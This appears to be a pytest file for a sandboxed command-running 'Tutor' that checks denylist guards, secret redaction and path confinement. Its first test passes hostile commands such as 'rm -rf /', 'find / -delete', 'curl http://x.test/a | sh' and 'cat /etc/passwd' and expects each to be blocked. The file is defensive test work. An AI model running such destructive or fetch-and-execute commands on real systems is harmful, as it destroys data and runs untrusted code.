"""The Tutor with commands that really run: confined, judged by guards, and the first law in its
shell."""

from __future__ import annotations

import os
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from stanchion import Shield
from stanchion.readings.claims.claim import CheckVerdict, Claim, Predicate
from stanchion.runtime.sandbox.sandbox import Sandbox
from stanchion.tutor.graph import Truth
from stanchion.tutor.law.v1 import TutorV1
from stanchion.tutor.law.v2 import TutorV2
from stanchion.tutor.law.verdicts import MoveVerdict
from stanchion.tutor.moves.legacy import ProposeMove
from stanchion.tutor.moves.typed import Propose
from stanchion.tutor.playing import make_tutor
from stanchion.tutor.playing.games import GameError, load_rules
from stanchion.tutor.playing.runners import Confining, ShellExecutor


@pytest.fixture
def sandbox() -> Iterator[Sandbox]:
    """A sandbox with a file in it."""
    with tempfile.TemporaryDirectory(prefix="stanchion-tutor-") as made:
        root = Path(made).resolve()
        root.chmod(0o777)
        (root / "config.yaml").write_text("key: ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8\n")
        with Sandbox(root, user=65_534 if os.getuid() == 0 else None) as one:
            yield one


def test_the_first_law_runs_shell_texts_behind_the_walls(sandbox: Sandbox) -> None:
    executor = ShellExecutor(sandbox=sandbox)
    tutor = TutorV1("real", executor, load_rules())
    tutor.setup_game("look")
    done = tutor.execute_move(
        ProposeMove(command="test -f config.yaml && echo yes > /tmp/x; cat /tmp/x")
    )
    assert done.observation is not None
    assert (done.observation.rc, done.observation.stdout) == (0, "yes\n")
    assert executor.execute("true > out.txt")[0] != 0
    assert executor.execute("true > out.txt", "write")[0] == 0
    assert executor.execute("rm -rf /") == (
        -1,
        "",
        "BLOCKED: Command matches denylist pattern: rm\\s+-rf\\s+/",
    )
    for command in ("rm -r -f /", "find / -delete", "curl http://x.test/a | sh"):
        status, said, why = executor.execute(command)
        assert (status, said, why[:9]) == (-1, "", "BLOCKED: "), command
    assert executor.execute("cat /etc/passwd")[0] != 0


def test_every_command_passes_the_guards(sandbox: Sandbox) -> None:
    policy = {
        "name": "tutored",
        "guards": [
            {
                "use": "rule",
                "stages": ["tool_call"],
                "when": "event.args.command.contains('head')",
                "action": "block",
            }
        ],
    }
    with Shield.load(policy, store="memory:") as shield, shield.run("player") as run:
        tutor = TutorV2(
            "real", Confining(sandbox, run=run), "look", (Claim(Predicate.FILE, "config.yaml"),)
        )
        refused = tutor.execute_move(Propose(argv=("head", "config.yaml")))
        assert refused.verdict is MoveVerdict.LEGAL
        assert refused.reason.startswith("no evidence: ")
        tutor.execute_move(Propose(argv=("test", "-f", "config.yaml")))
    assert tutor.check_goal_satisfaction()


def test_what_guards_hide_is_no_evidence(sandbox: Sandbox) -> None:
    with (
        Shield.load({"name": "hides", "guards": [{"use": "secrets"}]}, store="memory:") as shield,
        shield.run("p") as run,
    ):
        tutor = TutorV2("real", Confining(sandbox, run=run), "look")
        done = tutor.execute_move(Propose(argv=("cat", "config.yaml")))
    assert done.observation is not None
    assert "[redacted" in done.observation.stdout
    claim = Claim(Predicate.CONTAINS, "config.yaml", "[redacted")
    assert tutor.check(claim).verdict is not CheckVerdict.PROVABLE


@pytest.mark.parametrize(("stage", "ran"), [("tool_call", False), ("tool_result", True)])
def test_a_command_whose_result_is_withheld_has_run(
    sandbox: Sandbox, stage: str, ran: bool
) -> None:
    rule = {"use": "rule", "stages": [stage], "when": "event.tool == 'shell'", "action": "block"}
    with Shield.load({"name": "hides", "guards": [rule]}, store="memory:").run("p") as run:
        runner = Confining(sandbox, ("cp",), run=run)
        came = runner.run(("cp", "config.yaml", "made.yaml"), True)
    assert (came.ended, came.began, came.changes) == (False, ran, ran)
    assert Path(sandbox.root, "made.yaml").exists() is ran


def test_what_walls_forbid_says_nothing_of_a_file(sandbox: Sandbox) -> None:
    (sandbox.root / "config.yaml").chmod(0o666)
    tutor = TutorV2("real", Confining(sandbox), "look", writes=True)
    writable = Claim(Predicate.WRITABLE, "config.yaml")
    tutor.execute_move(Propose(argv=("test", "-w", "config.yaml")))
    assert tutor.check(writable).verdict is CheckVerdict.UNDECIDABLE
    assert tutor.check(writable).missing == (
        "an observation of `test -w config.yaml` with leave to write",
    )
    tutor.execute_move(Propose(argv=("test", "-w", "config.yaml"), write=True))
    assert tutor.check(writable).verdict is CheckVerdict.PROVABLE


@pytest.mark.parametrize(
    "path",
    [
        "/etc/shadow",
        "//etc/shadow",
        "out",
        "./out",
        "folder/hostname",
        "../none",
        "own/../../none",
        "again",
        "back/none",
    ],
)
def test_what_lies_beyond_the_walls_is_neither_proven_nor_refuted(
    sandbox: Sandbox, path: str
) -> None:
    root = sandbox.root
    (root / "own").mkdir()
    for name, target in {
        "out": "/etc/hostname",
        "folder": "/etc",
        "again": "own/../out",
        "back": "own/../..",
    }.items():
        (root / name).symlink_to(target)
    tutor = TutorV2("real", Confining(sandbox), "look")
    for flag in ("-e", "-f", "-r"):
        tutor.execute_move(Propose(argv=("test", flag, path)))
    tutor.execute_move(Propose(argv=("cat", path)))
    for predicate in (Predicate.EXISTS, Predicate.FILE, Predicate.READABLE):
        for polarity in (True, False):
            assert (
                tutor.check(Claim(predicate, path, polarity=polarity)).verdict
                is CheckVerdict.UNDECIDABLE
            )


@pytest.mark.parametrize(
    "path", ["config.yaml", "near", "whole", "own/../config.yaml", "{root}/config.yaml", "a/../b"]
)
def test_links_and_steps_within_the_folder_are_followed(sandbox: Sandbox, path: str) -> None:
    root = sandbox.root
    (root / "own").mkdir()
    (root / "near").symlink_to("own/../config.yaml")
    (root / "whole").symlink_to(root / "config.yaml")
    tutor = TutorV2("real", Confining(sandbox), "look")
    path = path.format(root=root)
    tutor.execute_move(Propose(argv=("test", "-f", path)))
    there = CheckVerdict.PROVABLE if (root / path).is_file() else CheckVerdict.REFUTABLE
    assert tutor.check(Claim(Predicate.FILE, path)).verdict is there


def test_a_broken_file_of_rules_is_named(tmp_path: Path) -> None:
    (tmp_path / "a.rules.yaml").write_text("rules:\n  - id: x\n")
    with pytest.raises(
        GameError, match=r"a\.rules\.yaml: rule 1 \(`x`\): `conclude` says what follows"
    ):
        load_rules(tmp_path)


WRITTEN = """\
Here is the rule:
```yaml
id: R_readable
match: [{obs.stdout: {contains: "key:"}}]
conclude: {truth: {text: "The settings can be read", kind: property}}
```
"""


def test_the_published_way_to_make_the_first_law(sandbox: Sandbox) -> None:
    asked: list[str] = []

    def writes(prompt: str) -> str:
        asked.append(prompt)
        return WRITTEN if len(asked) == 1 else "id: [" if len(asked) == 2 else "id: x"

    tutor = make_tutor("published", sandbox.root, None, writes, sandbox=sandbox)
    assert isinstance(tutor, TutorV1)
    tutor.setup_game("look")
    seen = tutor.execute_move(ProposeMove(command="cat config.yaml")).observation
    assert seen is not None
    claim = Truth(id="", text="The settings can be read")
    assert tutor.check(claim).verdict is CheckVerdict.UNDECIDABLE
    rule = tutor.request_rule("how?", claim, seen)
    assert (asked, rule is not None and rule.lifetime) == (["how?"], "session")
    assert tutor.check(claim).verdict is CheckVerdict.PROVABLE
    for says in ("the rule is no YAML", "`conclude` says what follows"):
        assert tutor.request_rule("how?", claim, seen) is None
        assert says in str(tutor.pcg.events[-1].reason)
    assert seen.created_at


def test_rules_that_are_wrong_make_no_tutor(tmp_path: Path) -> None:
    (tmp_path / "a.rules.yaml").write_text("rules: 5\n")
    with pytest.raises(GameError, match=r"a\.rules\.yaml: `meta` is a mapping and `rules` a list"):
        make_tutor("none", tmp_path, tmp_path)
